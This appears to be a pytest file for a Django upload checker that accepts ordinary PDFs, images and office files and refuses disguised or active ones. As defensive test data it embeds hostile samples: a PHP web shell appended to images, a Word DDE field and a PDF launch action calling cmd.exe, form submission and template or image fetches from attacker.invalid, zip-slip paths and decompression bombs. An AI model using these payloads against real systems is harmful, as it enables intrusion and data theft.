"""Ordinary files pass; what is not what it says, or would do something, is refused with a sentence that helps."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

import pikepdf
import pytest
from django.core.exceptions import ValidationError
from PIL import Image

from privacy.checks import check_uploads_for_deployment
from privacy.choices import ScanState
from privacy.uploads import checks, seen
from privacy.uploads.checks import check_upload, safe_name
from tests.privacy.uploads import made
from tests.privacy.uploads.made import docx, odt, pdf, picture, relation, relations, sent, xlsx, zipped

ALL = ("pdf", "image", "office", "text", "archive")


def refusal(name: str, data: bytes, kinds=ALL, **options) -> ValidationError:
    with pytest.raises(ValidationError) as caught:
        check_upload(sent(name, data), kinds, **options)
    return caught.value


ORDINARY = {
    "don.pdf": pdf,
    "nén.pdf": lambda: pdf(object_stream_mode=pikepdf.ObjectStreamMode.generate, compress_streams=True),
    "đơn xin học.docx": docx,
    "danh-sach.xlsx": xlsx,
    "van-ban.odt": odt,
    "anh.jpg": picture,
    "anh.JPEG": picture,
    "anh.png": lambda: picture("png"),
    "anh.webp": lambda: picture("webp"),
    "anh.heic": lambda: picture("heic"),
    "anh.gif": lambda: picture("gif"),
    "ghi-chu.txt": lambda: "Kính gửi nhà trường\r\nEm xin phép…".encode(),
    "utf16.txt": lambda: "Kính gửi".encode("utf-16"),
    "bang.csv": lambda: "họ tên,lớp\nAn,1A\n".encode("utf-8-sig"),
    "ho-so.zip": lambda: zipped({"don.pdf": pdf(), "anh.jpg": picture(), "don.docx": docx()}),
}


@pytest.mark.parametrize("name", ORDINARY)
@pytest.mark.parametrize("rewrite", [True, False])
def test_an_ordinary_file_passes(name, rewrite):
    data = ORDINARY[name]()
    found = check_upload(sent(name, data), ALL, rewrite_images=rewrite)
    assert found.scan == ScanState.NONE
    assert found.size == len(found.data)
    if found.kind != "image" or not rewrite:
        assert found.data == data


def test_a_picture_of_the_public_is_written_anew_without_what_is_not_a_pixel():
    exif = Image.Exif()
    exif[0x010E] = "DẤUẢNH"
    exif.get_ifd(0x8825)[2] = (10.0, 46.0, 0.0)
    data = picture("jpg", exif=exif) + b"<script>alert(1)</script>"
    found = check_upload(sent("anh.jpg", data), ALL)
    assert b"script" not in found.data
    assert not Image.open(io.BytesIO(found.data)).getexif()
    assert Image.open(io.BytesIO(found.data)).size == (64, 48)


def test_a_picture_of_a_phone_becomes_a_jpeg_that_every_browser_shows():
    found = check_upload(sent("IMG_0001.HEIC", picture("heic")), ALL)
    assert (found.name, found.content_type) == ("IMG_0001.jpg", "image/jpeg")


def test_a_picture_that_lies_on_its_side_is_turned():
    exif = Image.Exif()
    exif[0x0112] = 6
    found = check_upload(sent("anh.jpg", picture("jpg", exif=exif)), ALL)
    assert Image.open(io.BytesIO(found.data)).size == (48, 64)


def test_an_own_picture_of_the_board_with_something_behind_its_end_is_refused():
    for ending in ("jpg", "png"):
        data = picture(ending) + b"<?php system($_GET[0]); ?>"
        assert refusal(f"anh.{ending}", data, rewrite_images=False).code == "polyglot"


NOT_WHAT_THEY_SAY = {
    "html as pdf": ("a.pdf", b"<!doctype html><script>alert(1)</script>", "type"),
    "program as jpg": ("a.jpg", b"MZ" + bytes(200), "type"),
    "zip as docx": ("a.docx", zipped({"a.txt": "x"}), "structure"),
    "docx as xlsx": ("a.xlsx", docx(), None),
    "html as txt": ("a.txt", b"<html><body>x</body></html>", None),
    "script in csv": ("a.csv", b"ten,lop\n<script>alert(1)</script>,1\n", None),
    "binary as txt": ("a.txt", bytes(range(256)) * 4, None),
    "svg": ("a.svg", b"<svg xmlns='http://www.w3.org/2000/svg'/>", "svg"),
    "svg as png": ("a.png", b"<svg xmlns='http://www.w3.org/2000/svg'/>", "type"),
    "program": ("a.exe", b"MZ" + bytes(200), "ending"),
    "no ending": ("tep", b"x", "ending"),
    "only an ending": (".pdf", pdf(), "ending"),
    "old word": ("a.doc", bytes.fromhex("d0cf11e0a1b11ae1") + bytes(600), "old_office"),
    "macro ending": ("a.docm", docx(), "macro"),
    "two endings": ("anh.php.jpg", picture(), "double_ending"),
    "hidden ending": ("anh.exe\u202e.jpg", picture(), "double_ending"),
    "empty": ("a.pdf", b"", "empty"),
    "broken jpg": ("a.jpg", picture()[:200], "broken"),
    "broken pdf": ("a.pdf", b"%PDF-1.7\nrubbish\n%%EOF\n", "broken"),
    "broken docx": ("a.docx", docx()[:-100], "broken"),
    "text before pdf": ("a.pdf", b"\n\nGIF89a " + pdf(), None),
    "zip behind pdf": ("a.pdf", pdf() + zipped({"a": "b"}), "polyglot"),
    "web page behind pdf": ("a.pdf", pdf() + b"<script>alert(1)</script>", "polyglot"),
    "picture before zip": ("a.docx", picture() + docx(), None),
    "something behind docx": ("a.docx", docx() + b"<script>", None),
}


@pytest.mark.parametrize("case", NOT_WHAT_THEY_SAY)
def test_a_file_that_is_not_what_it_says_is_refused(case):
    name, data, code = NOT_WHAT_THEY_SAY[case]
    found = refusal(name, data)
    assert code is None or found.code == code
    assert len(found.messages[0]) > 20


def test_a_kind_that_the_field_does_not_take_is_refused_with_those_it_takes():
    found = refusal("don.docx", docx(), kinds=("pdf", "image"))
    assert found.code == "ending"
    assert "PDF" in found.messages[0]


def test_a_file_that_is_too_large_is_refused_before_it_is_read():
    upload = sent("a.pdf", pdf())
    upload.file = None
    with pytest.raises(ValidationError) as caught:
        check_upload(upload, ALL, max_bytes=100)
    assert caught.value.code == "too_large"
    assert "100" in caught.value.messages[0]


def test_the_harmless_file_that_tries_scanners_is_refused_without_one():
    data = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + checks.EICAR + b"!$H+H*"
    assert refusal("a.txt", data).code == "virus"


BOMBS = {
    "ten thousand to one": zipped(
        {"[Content_Types].xml": made.CONTENT_TYPES, "word/document.xml": b"0" * 30_000_000}
    ),
    "many members": zipped({f"{n}.txt": "" for n in range(5_001)}),
    "too much unpacked": zipped({f"{n}.txt": b"0" * 999_999 for n in range(220)}),
    "archive in archive": zipped({"a.zip": zipped({"b.txt": "x"})}),
    "archive under another name": zipped({"a.txt": zipped({"b.txt": "x"})}),
    "out of the folder": zipped({"../../etc/cron.d/x": "x"}),
    "absolute": zipped({"/etc/passwd": "x"}),
    "program inside": zipped({"setup.exe": b"MZ" + bytes(100)}),
    "program under another name": zipped({"anh.jpg": b"MZ" + bytes(100)}),
}


@pytest.mark.parametrize("case", BOMBS)
def test_an_archive_that_would_do_harm_is_refused(case):
    assert refusal("a.zip", BOMBS[case]).code in {"bomb", "archive_member", "path"}


def test_members_that_share_their_bytes_are_refused():
    data = bytearray(zipped({"a.txt": "x" * 3000, "b.txt": "y" * 3000}))
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as archive:
        first, second = archive.infolist()
    entry = data.rfind(b"PK\x01\x02")
    assert struct.unpack_from("<L", data, entry + 42)[0] == second.header_offset
    struct.pack_into("<L", data, entry + 42, first.header_offset)
    assert refusal("a.zip", bytes(data)).code == "bomb"


def test_an_archive_with_a_password_is_refused():
    data = bytearray(zipped({"a.txt": "x"}))
    data[data.find(b"PK\x01\x02") + 8] |= 1
    assert refusal("a.zip", bytes(data)).code == "encrypted"


def fields(*words: str) -> str:
    runs = "".join(f"<w:instrText>{word}</w:instrText>" for word in words)
    return f'<w:document xmlns:w="{made.WORD}">{runs}</w:document>'


WORD_HARM = {
    "macro": (docx(word__vbaProject_bin=b"\xd0\xcf\x11\xe0"), "macro"),
    "macro content type": (
        zipped(
            {
                "[Content_Types].xml": made.CONTENT_TYPES.replace(
                    "document.main", "document.macroEnabled.main"
                ),
                "word/document.xml": "<w/>",
            }
        ),
        "macro",
    ),
    "embedded object": (docx(word__embeddings__oleObject1_bin=b"\xd0\xcf\x11\xe0"), "embedded"),
    "program as picture": (docx(word__media__image1_png=b"MZ" + bytes(60)), "embedded"),
    "entities": (docx(body='<!DOCTYPE x [<!ENTITY a "b">]><w:document/>'), "markup"),
    "dde": (docx(body=fields("DDEAUTO c:\\cmd.exe")), "external"),
    "dde in pieces": (docx(body=fields("DD", "EAUTO x")), "external"),
}


@pytest.mark.parametrize("case", WORD_HARM)
def test_a_word_file_that_would_do_something_is_refused(case):
    data, code = WORD_HARM[case]
    assert refusal("don.docx", data).code == code


@pytest.mark.parametrize(
    ("row", "passes"),
    [
        (relation("hyperlink", "https://example.edu.vn/", external=True), True),
        (relation("hyperlink", "javascript:alert(1)", external=True), False),
        (relation("attachedTemplate", "http://attacker.invalid/x.dotm", external=True), False),
        (relation("image", "http://attacker.invalid/x.png", external=True), False),
        (relation("oleObject", "file:///c:/x", external=True), False),
        (relation("image", "media/image1.png"), True),
    ],
)
def test_a_word_file_links_to_pages_and_fetches_nothing(row, passes):
    data = zipped(
        {
            "[Content_Types].xml": made.CONTENT_TYPES,
            "word/document.xml": "<w/>",
            "word/_rels/document.xml.rels": relations(row),
        }
    )
    if passes:
        assert check_upload(sent("don.docx", data), ALL).data == data
    else:
        assert refusal("don.docx", data).code == "external"


@pytest.mark.parametrize(
    "data",
    [
        odt(Basic__Standard__Module1_xml="<x/>"),
        odt(content='<x xmlns:script="s"><script:event-listener/></x>'),
        odt(content='<x xmlns:text="t"><text:dde-connection/></x>'),
        odt(content="<!DOCTYPE x><x/>"),
        odt(Object_1=b"MZ".decode() + "\x00" * 60),
    ],
)
def test_an_open_document_that_would_do_something_is_refused(data):
    assert refusal("van-ban.odt", data).code in {"macro", "external", "markup", "embedded"}


def _action(entry: dict):
    def change(book: pikepdf.Pdf) -> None:
        book.Root.OpenAction = pikepdf.Dictionary(entry)

    return change


def _attach(book: pikepdf.Pdf) -> None:
    book.attachments["x.txt"] = b"x"


def _form(book: pikepdf.Pdf) -> None:
    book.Root.AcroForm = pikepdf.Dictionary(XFA=pikepdf.String("x"), Fields=pikepdf.Array())


def _link(book: pikepdf.Pdf) -> None:
    action = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("javascript:alert(1)"))
    note = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=pikepdf.Array([0, 0, 9, 9]), A=action
    )
    book.pages[0].Annots = book.make_indirect(pikepdf.Array([note]))


PDF_HARM = {
    "javascript": _action({"/S": pikepdf.Name.JavaScript, "/JS": pikepdf.String("app.alert(1)")}),
    "launch": _action({"/S": pikepdf.Name.Launch, "/F": pikepdf.String("cmd.exe")}),
    "submit": _action({"/S": pikepdf.Name.SubmitForm, "/F": pikepdf.String("http://attacker.invalid")}),
    "other file": _action({"/S": pikepdf.Name.GoToR, "/F": pikepdf.String("\\\\attacker.invalid\\x.pdf")}),
    "attachment": _attach,
    "xfa": _form,
    "javascript address": _link,
}


@pytest.mark.parametrize("case", PDF_HARM)
@pytest.mark.parametrize("mode", [pikepdf.ObjectStreamMode.disable, pikepdf.ObjectStreamMode.generate])
def test_a_pdf_that_would_do_something_is_refused_also_where_its_objects_are_packed(case, mode):
    data = pdf(PDF_HARM[case], object_stream_mode=mode)
    assert refusal("don.pdf", data).code in {"script", "action", "embedded"}


def test_a_pdf_that_opens_at_a_page_is_no_harm():
    def change(book: pikepdf.Pdf) -> None:
        book.Root.OpenAction = pikepdf.Array([book.pages[0].obj, pikepdf.Name.Fit])

    data = pdf(change)
    assert check_upload(sent("don.pdf", data), ALL).data == data


def test_a_pdf_with_a_password_is_refused():
    assert refusal("don.pdf", pdf(encryption=pikepdf.Encryption(user="x", owner="y"))).code == "encrypted"


def test_a_pdf_whose_streams_unpack_to_far_more_is_refused():
    packer = zlib.compressobj(9)
    body = b"".join(packer.compress(b"0" * 1_000_000) for _turn in range(40)) + packer.flush()
    head = f"1 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length {len(body)}>>stream\n".encode()
    data = b"%PDF-1.7\n" + head + body + b"\nendstream\nendobj\ntrailer<<>>\nstartxref\n0\n%%EOF\n"
    assert refusal("don.pdf", data).code == "bomb"


def test_a_picture_with_too_many_pixels_is_refused():
    head = b"\x89PNG\r\n\x1a\n"
    body = struct.pack(">IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0)
    chunk = struct.pack(">I", len(body)) + b"IHDR" + body + struct.pack(">I", zlib.crc32(b"IHDR" + body))
    assert refusal("anh.png", head + chunk + b"\x00\x00\x00\x00IEND\xaeB`\x82").code == "pixels"


@pytest.mark.parametrize(
    ("given", "kept"),
    [
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("C:\\Users\\an\\Đơn xin học.PDF", "Đơn xin học.pdf"),
        ("a\x00b\u202efdp.jpg", "abfdp.jpg"),
        ("x" * 300 + ".pdf", "x" * 116 + ".pdf"),
        ("a:b?c*.pdf", "a_b_c_.pdf"),
        ("  ? .pdf", "_.pdf"),
        (".pdf", "pdf"),
    ],
)
def test_a_name_is_kept_readable_and_harmless(given, kept):
    assert safe_name(given) == kept


def test_without_the_library_that_sees_types_no_file_is_taken(monkeypatch):
    monkeypatch.setattr(seen, "magic", None)
    assert refusal("don.pdf", pdf()).code == "scanner"
    assert "privacy.E007" in {found.id for found in check_uploads_for_deployment()}
